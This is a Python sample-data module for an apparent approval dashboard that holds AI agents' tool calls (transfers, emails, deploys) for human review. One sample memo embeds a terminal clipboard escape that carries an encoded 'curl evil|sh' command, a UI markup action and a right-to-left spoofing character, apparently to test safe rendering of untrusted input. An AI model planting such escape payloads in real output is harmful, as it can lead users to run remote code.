"""Deterministic sample data for screenshots, snapshot tests and benchmarks.

Writes through the public store API only (``Store.append_events`` and ``Store.submit``). Ids,
amounts and times derive from a seed and ``now``, so two runs with the same arguments produce the
same screens.
"""

from __future__ import annotations

import hashlib
import random
from pathlib import Path
from typing import Any

POLICY_VERSION = hashlib.sha256(b"sentinel sample policy").hexdigest()

SAMPLE_RULES = """\
version: "1.0"
default_action: allow
rules:
  - id: block_deletes
    name: Deletes are disabled
    function_pattern: "delete_*"
    action: block
    message: "Delete operations are disabled for agents"
  - id: large_transfer
    name: Large transfers need approval
    function_pattern: "transfer*"
    conditions:
      - {param: amount, operator: gt, value: 1000}
    action: require_approval
    message: "Transfer of {amount} to {destination} needs approval"
  - id: external_email
    name: Email outside the company needs approval
    function_pattern: "send_email"
    conditions:
      - not: {param: to, operator: endswith, value: "@example.com"}
    action: require_approval
    message: "Email to outside address {to} needs approval"
  - id: prod_deploy
    name: Production deploys need approval
    function_pattern: "deploy*"
    conditions:
      - {param: environment, operator: in, value: [prod, production]}
    action: require_approval
    message: "Deploy of {service} to {environment} needs approval"
"""


#: What the anomaly detector attaches to an escalated call (``sentinel/anomaly/hook.py``'s card
#: data): a 12,000 transfer against a baseline of a few thousand, above the escalation threshold.
ANOMALY: dict[str, Any] = {
    "score": 8.2, "action": "require_approval", "escalate_at": 7.0, "block_at": 9.0,
    "explanation": "amount 12,000 is 8.2 MADs above the median 2,400 of the last 12 calls",
    "param": "amount", "value": 12000, "median": 2400, "n": 12,
    "baseline": [1800, 2600, 2400, 3100, 2000, 2750, 2200, 2400, 1500, 2900, 2500, 2300],
    "findings": [
        {"kind": "number", "param": "amount", "risk": 8.2, "value": 12000, "z": 8.2,
         "explanation": "amount 12,000 is 8.2 MADs above the median 2,400 of the last 12 calls"},
        {"kind": "category", "param": "destination", "risk": 5.0, "value": "ACC-9999",
         "explanation": "destination ACC-9999 was never seen before (12 calls, 3 values)"},
    ],
}


#: The argument schemas the sample requests record (what the edit form types its fields by).
SAMPLE_SCHEMAS: dict[str, dict[str, Any]] = {
    "transfer_funds": {
        "type": "object",
        "properties": {
            "amount": {"type": "integer", "exclusiveMinimum": 0},
            "destination": {"type": "string", "pattern": "^ACC-[0-9]{4}$"},
            "memo": {"type": "string", "maxLength": 140},
        },
        "required": ["amount", "destination"],
    },
    "send_email": {
        "type": "object",
        "properties": {
            "to": {"type": "string"}, "subject": {"type": "string"}, "body": {"type": "string"},
            "api_token": {"type": "string"},
        },
        "required": ["to"],
    },
    "deploy_service": {
        "type": "object",
        "properties": {
            "service": {"type": "string"},
            "environment": {"enum": ["dev", "staging", "prod"]},
            "version": {"type": "string"},
        },
        "required": ["service", "environment", "version"],
    },
}  # fmt: skip


def sample_id(n: int) -> str:
    return hashlib.sha256(f"sentinel-sample-{n}".encode()).hexdigest()[:32]


def pending_specs(now: float) -> list[dict[str, Any]]:
    """Six pending requests of three agents (oldest first)."""
    return [
        {
            "id": sample_id(1), "function": "deploy_service", "agent_id": "ops-agent",
            "arguments": {"service": "billing", "environment": "prod", "version": "v1.4.2"},
            "rule_id": "prod_deploy", "reason": "Deploy of billing to prod needs approval",
            "value_at_risk": None, "age": 1260,
        },
        {
            "id": sample_id(2), "function": "send_email", "agent_id": "email-agent",
            "arguments": {
                "to": "ceo@competitor.com", "subject": "Launch plan",
                "body": "Hello,\nplease see the attached summary of the Q3 launch plan.\n"
                + "Figures, timelines and the vendor shortlist follow below. " * 8,
                "api_token": "[REDACTED]",
            },
            "rule_id": "external_email", "reason": "Email to outside address ceo@competitor.com needs approval",
            "value_at_risk": None, "age": 540,
        },
        {
            "id": sample_id(3), "function": "transfer_funds", "agent_id": "payments-agent",
            "arguments": {"amount": 2750, "destination": "ACC-2002", "memo": "vendor payment"},
            "rule_id": "large_transfer", "reason": "Transfer of 2750 to ACC-2002 needs approval",
            "value_at_risk": 2750.0, "age": 300,
            "context": {"balance": 25000, "daily_limit_remaining": 8000},
        },
        {
            "id": sample_id(4), "function": "transfer_funds", "agent_id": "payments-agent",
            "arguments": {
                "amount": 1500, "destination": "ACC-1001",
                "memo": "refund \x1b]52;c;Y3VybCBldmlsfHNo\x07 [@click=app.quit]ok[/] \u202eexe.txt",
            },
            "rule_id": "large_transfer", "reason": "Transfer of 1500 to ACC-1001 needs approval",
            "value_at_risk": 1500.0, "age": 140,
            "context": {"balance": 25000, "daily_limit_remaining": 8000},
        },
        {
            "id": sample_id(5), "function": "transfer_funds", "agent_id": "payments-agent",
            "arguments": {"amount": 12000, "destination": "ACC-9999", "memo": "payroll"},
            "rule_id": "large_transfer", "reason": "Transfer of 12000 to ACC-9999 needs approval",
            "value_at_risk": 12000.0, "age": 75, "risk_score": 8.2,
            "risk_explanation": ANOMALY["explanation"],
            "context": {"balance": 25000, "sentinel": {"anomaly": ANOMALY, "limit:daily_spend": {
                "limits": [{"rule": "daily_spend", "kind": "sum", "param": "amount", "window": "24h",
                            "per": "agent=payments-agent", "used": 4200, "cap": 20000,
                            "this_call": 12000, "would_be": 16200, "remaining": 15800,
                            "exceeded": False}]}}},
        },
        {
            "id": sample_id(6), "function": "send_email", "agent_id": "email-agent",
            "arguments": {"to": "press@news.example.org", "subject": "Quarterly numbers"},
            "rule_id": "external_email", "reason": "Email to outside address press@news.example.org needs approval",
            "value_at_risk": None, "age": 12,
        },
    ]


#: The sample request under a two-person rule (finance decides, security after 15 minutes).
QUORUM_ID = sample_id(7)


def add_quorum_request(db_path: Path | str, now: float, *, voter: str = "bob") -> str:
    """A pending 48,000 transfer that needs two finance approvals and already has ``voter``'s
    (the card's "who decides" line and quorum progress); returns its id."""
    from sentinel.store import NewRequest, OperatorIdentity, Store
    from sentinel.store.models import DecisionTerms, Vote

    terms = DecisionTerms(quorum=2, approvers=("finance",), self_approval=False,
                          escalate_after=900.0, escalate_to=("security",))
    with Store(db_path) as store:
        store.submit(NewRequest(
            id=QUORUM_ID, function="transfer_funds",
            arguments={"amount": 48000, "destination": "ACC-7310", "memo": "supplier prepayment"},
            digest=hashlib.sha256(QUORUM_ID.encode()).hexdigest(), timeout_seconds=1800.0,
            agent_id="payments-agent", rule_id="dual_control",
            rule_ids=("dual_control",),
            reason="Transfer of 48000 to ACC-7310 needs two finance approvals",
            value_at_risk=48000.0, policy_version=POLICY_VERSION, created_at=now - 200,
            terms=terms, requester={"account": "payments-svc", "host": "agents-1"},
        ))
        who = OperatorIdentity(voter, 1001, None, None, "ops-2", None, channel="tui")
        store.decide(QUORUM_ID, True, who, "invoice checked",
                     vote=Vote(voter, "approve", now - 60, account=voter, channel="tui",
                               reason="invoice checked"))
    return QUORUM_ID


_OPERATORS = ("alice@ops-1", "bob@ops-2 via ssh 10.0.0.5")
_FUNCS = (
    ("transfer_funds", "payments-agent", "large_transfer"),
    ("send_email", "email-agent", "external_email"),
    ("deploy_service", "ops-agent", "prod_deploy"),
    ("delete_user", "ops-agent", "block_deletes"),
    ("read_report", "ops-agent", None),
)


def history_events(now: float, count: int = 120, seed: int = 7) -> list[dict[str, Any]]:
    """Decided and allowed calls over the last 24 hours (oldest first)."""
    rng = random.Random(seed)
    out: list[dict[str, Any]] = []
    step = 86_000 / max(1, count)
    for i in range(count):
        ts = now - 86_400 + 600 + i * step + rng.random() * step / 2
        fn, agent, rule = _FUNCS[rng.randrange(len(_FUNCS))]
        amount = rng.choice([45, 120, 480, 1500, 2750, 5000, 12000]) if fn == "transfer_funds" else None
        if fn == "delete_user":
            kind = "blocked"
        elif rule is None or (amount is not None and amount <= 1000):
            kind = "allowed"
        else:
            kind = rng.choice(["approved", "approved", "approved", "denied", "expired"])
        rid = hashlib.sha256(f"sample-event-{seed}-{i}".encode()).hexdigest()[:32]
        event: dict[str, Any] = {
            "kind": kind, "ts": ts, "request_id": rid, "agent_id": agent, "function": fn,
            "rule_id": rule if kind != "allowed" else None, "value_at_risk": amount,
            "policy_version": POLICY_VERSION, "digest": hashlib.sha256(rid.encode()).hexdigest(),
            "data": {"arguments": {"amount": amount} if amount else {"name": "uptime"}},
        }
        if kind in ("approved", "denied"):
            event["actor"] = _OPERATORS[i % 2]
            event["reason"] = "checked with finance" if kind == "approved" else "destination not on the allow list"
            event["data"]["latency_s"] = round(5 + rng.random() * 120, 1)
        elif kind == "blocked":
            event["reason"] = "Delete operations are disabled for agents"
        elif kind == "expired":
            event["reason"] = "no decision before the deadline"
        out.append(event)
    return out


def seed(
    db_path: Path | str,
    now: float,
    *,
    events: int = 120,
    rules_path: Path | str | None = None,
    decided: int = 0,
) -> list[str]:
    """Fill a database with history and pending requests; returns the pending ids (oldest first).

    ``decided`` requests are submitted (created up to a few minutes before the real time) and
    decided at once, which gives the Metrics view approval latencies; their times are real, so
    snapshot tests leave it at 0.
    """
    import time

    from sentinel.store import NewRequest, OperatorIdentity, Store

    if rules_path is not None:
        Path(rules_path).write_text(SAMPLE_RULES, encoding="utf-8")
    with Store(db_path) as store:
        if events:
            store.append_events(history_events(now, events))
        ids = []
        for spec in pending_specs(now):
            args = spec["arguments"]
            store.submit(
                NewRequest(
                    id=spec["id"], function=spec["function"], arguments=args,
                    digest=hashlib.sha256(spec["id"].encode()).hexdigest(),
                    timeout_seconds=1800.0, agent_id=spec["agent_id"], context=spec.get("context"),
                    rule_id=spec["rule_id"], rule_ids=(spec["rule_id"],), reason=spec["reason"],
                    value_at_risk=spec["value_at_risk"], risk_score=spec.get("risk_score"),
                    risk_explanation=spec.get("risk_explanation"), policy_version=POLICY_VERSION,
                    created_at=now - spec["age"], arg_schema=SAMPLE_SCHEMAS.get(spec["function"]),
                )
            )
            ids.append(spec["id"])
        rng = random.Random(11)
        ops = [OperatorIdentity(name, 1000 + i, None, None, f"ops-{i + 1}", None, channel="tui")
               for i, name in enumerate(("alice", "bob"))]
        for i in range(decided):
            rid = hashlib.sha256(f"sample-decided-{i}".encode()).hexdigest()[:32]
            amount = rng.choice([1500, 2750, 5000, 12000])
            args = {"amount": amount, "destination": rng.choice(["ACC-1001", "ACC-2002"])}
            store.submit(
                NewRequest(
                    id=rid, function="transfer_funds", arguments=args, digest=hashlib.sha256(rid.encode()).hexdigest(), timeout_seconds=1800.0,
                    agent_id="payments-agent", rule_id="large_transfer", reason="large transfer",
                    value_at_risk=float(amount), policy_version=POLICY_VERSION,
                    created_at=time.time() - rng.uniform(8, 240),
                )
            )
            store.decide(rid, i % 3 != 2, ops[i % 2], reason="sample decision")
    return ids


#: The sample grants' ids (newest last), for tests that pick one.
GRANT_IDS = tuple(f"{sample_id(100 + i)}" for i in range(5))


def add_grants(db_path: Path | str, now: float) -> list[str]:
    """Five standing grants in every state (the Grants view): an active bounded one with some
    use against its count and value limits, one until revoked with no bound, one revoked, one
    past its end (shown expired) and one whose count limit was used up. Their terms' times
    derive from ``now``; returns the ids, oldest first."""
    from sentinel.store import OperatorIdentity, Store
    from sentinel.store.bounds import GrantBound
    from sentinel.store.grants import NewGrant

    alice = OperatorIdentity("alice", 1000, None, None, "ops-1", None, channel="tui")
    bob = OperatorIdentity("bob", 1001, None, None, "ops-2", "10.0.0.5 52114", channel="tui")
    pay, fn = "payments-agent", "transfer_funds"
    specs = [
        (GRANT_IDS[0], alice, NewGrant(pay, fn, (GrantBound("amount", "lte", 500),),
                                       expires_at=now - 600, created_at=now - 4200)),
        (GRANT_IDS[1], bob, NewGrant("ops-agent", "deploy_service",
                                     (GrantBound("service", "eq", "billing"),
                                      GrantBound("environment", "in", ["staging", "prod"])),
                                     expires_at=now + 1800, created_at=now - 3000)),
        (GRANT_IDS[2], alice, NewGrant("email-agent", "send_email",
                                       (GrantBound("to", "startswith", "press@"),),
                                       max_count=1, created_at=now - 2400)),
        (GRANT_IDS[3], bob, NewGrant("email-agent", "send_email", (), created_at=now - 1200)),
        (GRANT_IDS[4], alice, NewGrant(pay, fn, (GrantBound("amount", "lte", 3000),
                                                 GrantBound("destination", "in",
                                                            ["ACC-1001", "ACC-2002"])),
                                       expires_at=now + 2580, max_count=5, max_total=10000,
                                       created_at=now - 1020)),
    ]
    with Store(db_path) as store:
        for gid, who, new in specs:
            store.create_grant(NewGrant(**{**new.__dict__, "id": gid,
                                           "request_id": None, "rule_id": None}), who)
        store.revoke_grant(GRANT_IDS[1], bob, "release finished")
        store.consume_grant("email-agent", "send_email", {"to": "press@news.example.org"}, None,
                            only=[GRANT_IDS[2]])
        for amount, dest in ((1200, "ACC-1001"), (2750, "ACC-2002")):
            store.consume_grant(pay, fn, {"amount": amount, "destination": dest}, float(amount),
                                only=[GRANT_IDS[4]])
    return list(GRANT_IDS)
